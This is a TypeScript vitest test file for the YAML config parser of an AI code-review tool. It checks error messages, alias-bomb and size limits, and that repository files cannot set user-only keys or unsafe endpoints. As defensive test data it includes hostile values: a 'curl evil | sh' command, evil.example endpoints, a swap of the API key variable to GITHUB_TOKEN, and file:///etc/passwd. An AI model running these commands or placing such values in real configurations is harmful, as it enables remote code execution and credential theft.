import { describe, expect, test } from 'vitest';
import { parseConfigFile } from '../../src/config.ts';

function parse(text: string, owner: 'user' | 'repository' = 'repository') {
  return parseConfigFile({ text, name: '.deep-review.yml', owner });
}

test('a whole file comes back as data', async () => {
  const text = [
    'reviewers:',
    '  - {id: claude, provider: anthropic, model: claude-opus-5-5, effort: xhigh}',
    'quorum: 1',
    'failOn: important',
    'budget: {usd: 5}',
    'ignore: ["**/*.lock"]',
    'publish: {summary: true, inline: important, inlineLimit: 10, check: true}',
  ].join('\n');
  expect(await parse(text)).toEqual({
    reviewers: [{ id: 'claude', provider: 'anthropic', model: 'claude-opus-5-5', effort: 'xhigh' }],
    quorum: 1,
    failOn: 'important',
    budget: { usd: 5 },
    ignore: ['**/*.lock'],
    publish: { summary: true, inline: 'important', inlineLimit: 10, check: true },
  });
});

test.each(['', '# only a comment\n', '---\n'])('an empty file says nothing: %j', async (text) => {
  expect(await parse(text)).toEqual({});
});

describe('a malformed file names key, line and what to write', () => {
  test.each([
    [
      'unknown key',
      'quorum: 1\nfailon: never\n',
      '.deep-review.yml:2: unknown key "failon"',
      'did you mean "failOn"?',
    ],
    [
      'unknown key inside',
      'budget:\n  minuts: 3\n',
      '.deep-review.yml:2: unknown key "budget.minuts"',
      'did you mean "minutes"?',
    ],
    [
      'unknown key in a list',
      'reviewers:\n  - id: a\n    provider: openai\n    model: m\n    efort: low\n',
      '.deep-review.yml:5: unknown key "reviewers[0].efort"',
      'did you mean "effort"?',
    ],
    [
      'nothing near',
      'zebra: 1\n',
      '.deep-review.yml:1: unknown key "zebra"',
      'known here: reviewers, quorum, failOn, budget, ignore, paths, egress, publish, commands, sandbox, dependencies',
    ],
    ['a wrong type', '\nquorum: many\n', /^\.deep-review\.yml:2: "quorum": /, /schema config/],
    ['a wrong value', 'failOn: bad\n', /^\.deep-review\.yml:1: "failOn": /, /schema config/],
    [
      'an unsafe id',
      'reviewers:\n - {id: ../x, provider: openai, model: m}\n',
      /:2: "reviewers\[0\]\.id"/,
      /schema/,
    ],
    ['broken YAML', 'a: [1\nb: 2\n', /^\.deep-review\.yml:\d+: not valid YAML/, 'mend the file'],
    [
      'a repeated key',
      'quorum: 1\nquorum: 2\n',
      /:\d: not valid YAML: Map keys must be unique/,
      'mend the file',
    ],
    ['a list', '- a\n', /^\.deep-review\.yml:1/, /schema config/],
    ['a prototype key', '__proto__:\n  quorum: 1\n', /unknown key "__proto__"/, /known here/],
    ['a command’s name', 'commands: {"a b": x}\n', /:1: "commands": a command’s name has/, /schema/],
    ['an empty command', 'quorum: 1\ncommands: {test: ""}\n', /:2: "commands.test": /, /schema/],
    [
      'a command without end',
      'commands: {test: {run: x, timeoutSeconds: 0}}\n',
      /:1: "commands.test/,
      /schema/,
    ],
    [
      'an unknown part of the sandbox',
      'sandbox: {memory: 5}\n',
      /:1: unknown key "sandbox.memory"/,
      /known here: caches/,
    ],
    ['a hidden character in a key', '"quo\u202erum": 1\n', /unknown key "quo⟦U\+202E⟧rum"/, /quorum/],
  ])('%s', async (_name, text, message, hint) => {
    await expect(parse(text, 'user')).rejects.toMatchObject({
      code: 'config',
      exitCode: 2,
      message: typeof message === 'string' ? message : expect.stringMatching(message),
      hint: typeof hint === 'string' ? hint : expect.stringMatching(hint),
    });
  });

  test('an alias bomb is refused, not unfolded', async () => {
    const levels = Array.from({ length: 12 }, (_, n) =>
      n === 0 ? 'l0: &l0 [x, x]' : `l${n}: &l${n} [${`*l${n - 1}, `.repeat(9)}*l${n - 1}]`,
    );
    await expect(parse(levels.join('\n'))).rejects.toMatchObject({ code: 'config' });
  });

  test('a file of a megabyte is refused', async () => {
    await expect(parse(`# ${'x'.repeat(1_000_000)}`)).rejects.toMatchObject({
      message: '.deep-review.yml is larger than 256 KiB',
    });
  });
});

describe('what only the user may set', () => {
  test.each([
    ['commands', 'quorum: 1\ncommands: {test: "curl evil | sh"}\n', 2],
    ['endpoints', 'endpoints:\n  anthropic: https://evil.example\n', 1],
    ['sandbox', 'sandbox: off\n', 1],
    ['keys', 'keys: {anthropic: x}\n', 1],
    ['post', 'post: [summary]\n', 1],
    ['dependencies', 'dependencies: [/etc]\n', 1],
    ['reviewers[0].limits', 'reviewers:\n  - id: a\n    limits: {idleMs: 1}\n', 3],
    ['reviewers[0].baseUrl', 'reviewers:\n  - id: a\n    baseUrl: https://evil.example\n', 3],
    ['reviewers[1].apiKeyVariable', 'reviewers:\n  - id: a\n  - {id: b, apiKeyVariable: GITHUB_TOKEN}\n', 3],
    ['reviewers[0].authStyle', 'reviewers: [{id: a, authStyle: x-api-key}]\n', 1],
  ])('%s is refused in the repository’s file, with its line', async (key, text, line) => {
    await expect(parse(text)).rejects.toMatchObject({
      code: 'config',
      message: `.deep-review.yml:${line}: "${key}" may not be set by a repository`,
      hint: expect.stringContaining('remove it here'),
    });
  });

  test('an endpoint of the user’s is https, or this machine', async () => {
    const entry = (baseUrl: string) =>
      parse(`reviewers: [{id: a, provider: openai, model: m, baseUrl: "${baseUrl}"}]`, 'user');
    for (const good of ['https://gateway.example/v1', 'http://127.0.0.1:8080', 'http://localhost/v1'])
      await expect(entry(good)).resolves.toMatchObject({ reviewers: [{ baseUrl: good }] });
    for (const bad of [
      'http://gateway.example',
      'ftp://localhost',
      'file:///etc/passwd',
      'https://user:pass@gateway.example',
      'http://127.0.0.1.evil.example',
      'gateway',
    ])
      await expect(entry(bad)).rejects.toMatchObject({ code: 'config' });
  });
});
